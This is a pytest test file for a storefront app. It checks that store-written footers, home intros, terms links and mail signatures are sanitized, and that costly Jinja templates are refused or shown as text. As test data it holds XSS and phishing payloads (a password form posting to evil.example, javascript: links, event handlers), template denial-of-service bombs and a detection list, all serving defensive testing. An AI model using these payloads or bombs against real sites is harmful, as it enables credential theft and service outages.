"""Store-written texts are untrusted: the footer and the home intro reach pages only through an
allow-list sanitizer, terms links are https:// addresses, and rendering a store template is
bounded (steps, characters, time): an expensive one is refused at save and, forced into the
database anyway, shows as text without holding up the page.

Renders that would run for hours without the caps run in a daemon thread with a deadline, so
these tests fail rather than hang if the caps regress."""

from __future__ import annotations

import email
import email.policy
import re
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from markupsafe import escape

from storefront.accounts.models import StaffRole
from storefront.backoffice import texts
from storefront.config import ConfigError, load_settings
from storefront.extensions import db
from storefront.stores.models import Store
from tests.accounts.helpers import run_jobs
from tests.backoffice.test_backoffice_pages import csrf

EVIL_FOOTER = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<form action="https://evil.example/steal" method="post"><input name="password">'
    "<button>Sign in again</button></form>"
    '<a href="javascript:alert(document.cookie)">Support</a> '
    '<b onclick="steal()" style="position:fixed;inset:0">Shop</b> '
    '<a href="data:text/html;base64,PHNjcmlwdD4=">Terms</a>'
    '<iframe src="https://evil.example/"></iframe><img src="x" onerror="steal()">'
    "<script>steal()</script><style>body{display:none}</style>"
    '<object data="https://evil.example/x.swf"></object>'
    '<a href="https://help.example.com/">Help</a> © {{ year }}'
)
# 10^10 empty iterations: hours of CPU on the page without a cap.
RANGE_BOMB = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
# The same without range(): nested loops over a list literal, 10^10 iterations.
LIST_BOMB = (
    "{% set l = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9] %}"
    + "{% for a in l %}" * 10
    + "{{ '' }}"
    + "{% endfor %}" * 10
)


def within(seconds: float, fn: Callable[[], Any]) -> Any:
    """``fn()``'s result, or a test failure if it takes longer than ``seconds``."""
    box: dict[str, Any] = {}

    def run() -> None:
        try:
            box["value"] = fn()
        except BaseException as exc:  # re-raised below
            box["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still running after {seconds} s"
    if "error" in box:
        raise box["error"]
    return box["value"]


def _branding_form(token: str, footer: str) -> dict[str, str]:
    return {
        "csrf_token": token,
        "b-name": "Cloud Shop",
        "b-primary_color": "#0b5394",
        "b-secondary_color": "#1f2937",
        "b-default_locale": "en",
        "b-footer_text": footer,
    }


def _footer(html: str) -> str:
    found = re.search(
        r'<span class="sf-footer-text" id="store-footer">(.*?)</span>\s*\n', html, re.S
    )
    assert found is not None, html[-1500:]
    return found.group(1)


def _force_footer(app: Any, store: Store, footer: str) -> None:
    with app.app_context():
        row = db.session.get(Store, store.id)
        assert row is not None
        row.footer_text = footer  # past the form's checks, as a database edit would be
        db.session.commit()


def _assert_inert(html: str) -> None:
    for bad in (
        "<meta http-equiv",
        '<form action="https://evil',
        '<input name="password"',
        "javascript:",
        "data:text/html",
        "onclick",
        "onerror",
        "<iframe",
        "<script>steal",
        "<style>body",
        "<object",
        "position:fixed",
    ):
        assert bad not in html, bad


def test_a_hostile_footer_is_inert_on_every_store_page(
    app: Any, make_staff: Any, login: Any
) -> None:
    client = login(make_staff(role=StaffRole.OWNER))
    resp = client.post(
        "/admin/branding", data=_branding_form(csrf(client, "/admin/branding"), EVIL_FOOTER)
    )
    assert resp.status_code == 302  # HTML is allowed: what acts is dropped when shown
    year = time.gmtime().tm_year
    visitor = app.test_client()
    for path in ("/", "/login", "/register", "/products"):
        html = visitor.get(path).get_data(as_text=True)
        footer = _footer(html)
        _assert_inert(footer)
        assert "<meta" not in html.split("</head>")[1]  # no refresh anywhere in the body
        # what is left: the text, plain bold, and the web link marked as foreign
        assert "<b>Shop</b>" in footer and "Sign in again" in footer and f"© {year}" in footer
        assert (
            '<a href="https://help.example.com/" rel="noopener noreferrer nofollow">Help</a>'
            in footer
        )
        assert '<a rel="noopener noreferrer nofollow">Support</a>' in footer  # no address left


def test_a_hostile_home_intro_is_inert(app: Any, make_staff: Any, login: Any) -> None:
    client = login(make_staff(role=StaffRole.OWNER))
    token = csrf(client, "/admin/branding")
    body = EVIL_FOOTER.replace("Help", "Read our **guide**")
    resp = client.post(
        "/admin/branding/texts", data={"csrf_token": token, "key": "home.intro", "body": body}
    )
    assert resp.status_code == 302
    html = app.test_client().get("/").get_data(as_text=True)
    intro = re.search(r'id="store-intro">(.*?)</div>', html, re.S)
    assert intro is not None
    _assert_inert(intro.group(1))
    assert 'href="https://help.example.com/"' in intro.group(1)


def test_an_expensive_footer_is_refused_at_save(app: Any, make_staff: Any, login: Any) -> None:
    client = login(make_staff(role=StaffRole.OWNER))
    token = csrf(client, "/admin/branding")
    assert (
        client.post("/admin/branding", data=_branding_form(token, "Fine {{ year }}")).status_code
        == 302
    )
    for bomb in (RANGE_BOMB, LIST_BOMB, "{{ 'x' * 100000000 }}"):
        resp = within(
            10, lambda b=bomb: client.post("/admin/branding", data=_branding_form(token, b))
        )
        assert resp.status_code == 422
        page = resp.get_data(as_text=True)
        assert "The text is not a valid template: it takes too much work to show" in page
    # nothing was saved: the store still shows the last good footer
    assert (
        _footer(app.test_client().get("/").get_data(as_text=True))
        == f"Fine {time.gmtime().tm_year}"
    )


@pytest.mark.parametrize("bomb", [RANGE_BOMB, LIST_BOMB], ids=["range", "list"])
def test_an_expensive_footer_in_the_database_shows_as_text_fast(
    app: Any,
    default_store: Store,
    make_staff: Any,
    login: Any,
    bomb: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    _force_footer(app, default_store, bomb)
    visitor = app.test_client()
    started = time.monotonic()
    resp = within(10, lambda: visitor.get("/"))
    assert resp.status_code == 200
    assert _footer(resp.get_data(as_text=True)) == str(escape(bomb))  # the source, as text
    assert time.monotonic() - started < 5
    assert any("not rendered (shown as text)" in r.getMessage() for r in caplog.records)
    # and so does the page to undo it
    owner = login(make_staff(role=StaffRole.OWNER))
    page = within(10, lambda: owner.get("/admin/branding"))
    assert page.status_code == 200 and str(escape(bomb)) in page.get_data(as_text=True)


def test_the_clock_stops_a_render_the_step_cap_allows(
    make_app: Any, app: Any, default_store: Store
) -> None:
    # steps high enough for 10^8 iterations: only the 50 ms deadline can stop this one
    slow = make_app(STOREFRONT_TEXT_MAX_STEPS="10000000", STOREFRONT_TEXT_MAX_MS="50")
    bomb = "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}"
    _force_footer(app, default_store, bomb)
    started = time.monotonic()
    resp = within(10, lambda: slow.test_client().get("/"))
    assert resp.status_code == 200 and _footer(resp.get_data(as_text=True)) == str(escape(bomb))
    assert time.monotonic() - started < 3
    # a second view does not pay the budget again (the time-out is remembered for a while)
    started = time.monotonic()
    slow.test_client().get("/")
    assert time.monotonic() - started < 1


def test_terms_links_are_https_addresses(
    app: Any, default_store: Store, make_staff: Any, login: Any
) -> None:
    client = login(make_staff(role=StaffRole.OWNER))
    token = csrf(client, "/admin/branding")
    for bad in (
        "javascript:alert(1)//https://",
        "http://shop.example.com/terms",
        "data:text/html,<script>x</script>",
        "https://user:pw@evil.example/",
        'https://shop.example.com/terms" onclick="x',
        "https:///nohost",
    ):
        form = {**_branding_form(token, ""), "b-terms_user_agreement": bad}
        resp = client.post("/admin/branding", data=form)
        assert resp.status_code == 422, bad
        assert "Use an https:// address." in resp.get_data(as_text=True)
    # written to the database directly: ignored, the default document is linked instead
    with app.app_context():
        row = db.session.get(Store, default_store.id)
        assert row is not None
        row.terms = {"user_agreement": {"version": "x", "url": "javascript:alert(1)"}}
        db.session.commit()
    register = app.test_client().get("/register").get_data(as_text=True)
    assert "javascript:" not in register
    assert "https://www.huaweicloud.com/declaration/sa_cua.html" in register


def test_the_mail_signature_is_plain_text(
    app: Any, default_store: Store, make_staff: Any, make_customer: Any, login: Any, mail_dir: Path
) -> None:
    client = login(make_staff(role=StaffRole.OWNER))
    token = csrf(client, "/admin/branding")
    body = '{{ store.name }} support\n<a href="javascript:x">call us</a>'
    resp = client.post(
        "/admin/branding/texts",
        data={"csrf_token": token, "key": "mail.signature", "body": body},
    )
    assert resp.status_code == 302
    customer = make_customer()
    visitor = app.test_client()
    token = csrf(visitor, "/forgot-password")
    sent = visitor.post("/forgot-password", data={"csrf_token": token, "email": customer.email})
    assert sent.status_code == 302
    assert run_jobs(app) == 1  # account mails are sent by the worker
    (eml,) = mail_dir.glob("*.eml")
    message = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
    assert message.get_body(preferencelist=("html",)) is None  # text only: nothing to click
    text = message.get_body(preferencelist=("plain",)).get_content()  # type: ignore[union-attr]
    signature = f'-- \n{default_store.name} support\n<a href="javascript:x">call us</a>\n'
    assert text.replace("\r\n", "\n").endswith(signature)


STORE = type(
    "S", (), {"name": "Shop", "contact_email": "", "contact_phone": "", "contact_address": ""}
)()


@pytest.mark.parametrize(
    "bomb",
    [
        RANGE_BOMB,
        LIST_BOMB,
        "{{ 'x' * 100000000 }}",
        "{{ ['x'] * 100000000 }}",
        "{{ 'x'|center(100000000) }}",
        "{{ 'x'.ljust(100000000) }}",
        "{{ 2 ** 100000000 }}",
        "{{ '%0100000000d' % 1 }}",
        "{{ '{:>100000000}'.format(1) }}",
        "{{ '%0100000000d'|format(1) }}",
        "{{ ('\t' * 10000).expandtabs(10000) }}",
        "{{ ('x' * 10000).translate({120: 'y' * 10000}) }}",
        "{{ ('x' * 10000)|replace('', 'y' * 10000) }}",
        "{{ ('x' * 10000).replace('', 'y' * 10000) }}",
        "{{ ('y' * 10000).join('x' * 10000) }}",
        "{{ ('\n' * 10000)|indent(10000) }}",
        "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}"
        "{{ f(40) }}",
        "{% set y %}{% for i in range(9000) %}{{ 'x' * 9000 }}{% endfor %}{% endset %}"
        "{{ y|length }}",
        "{% for x in [[1]] recursive %}{{ loop(x) }}{% endfor %}",
        "{% set _sf_loop = [] %}{% for i in range(100000) %}{% endfor %}",
    ],
)
def test_costly_templates_are_refused_and_shown_as_text(app: Any, bomb: str) -> None:
    with app.app_context():
        assert within(10, lambda: texts.validate(bomb, STORE)) is not None
        assert within(10, lambda: str(texts.render_text(bomb, STORE))) == str(escape(bomb))
        assert within(10, lambda: texts.render_plain(bomb, STORE)) == bomb


def test_ordinary_templates_still_work(app: Any) -> None:
    with app.app_context():
        source = (
            "{% for i in range(3) %}{{ loop.index }}{% endfor %} {{ store.name|upper }} "
            "{{ [3, 1, 2]|sort|join(',') }} {{ 'a-b'.replace('-', '+') }} "
            "{{ '{:,}'.format(1234567) }}"
        )
        assert texts.validate(source, STORE) is None
        assert str(texts.render_text(source, STORE)) == "123 SHOP 1,2,3 a+b 1,234,567"


def test_the_caps_are_validated_settings() -> None:
    env = {"STOREFRONT_ENV": "testing", "STOREFRONT_TEXT_MAX_MS": "soon"}
    with pytest.raises(ConfigError, match="STOREFRONT_TEXT_MAX_MS"):
        load_settings(environ=env)
    settings = load_settings(
        environ={"STOREFRONT_ENV": "testing", "STOREFRONT_TEXT_MAX_STEPS": "500"}
    )
    assert (settings.text_max_steps, settings.text_max_chars, settings.text_max_ms) == (
        500,
        20_000,
        200,
    )
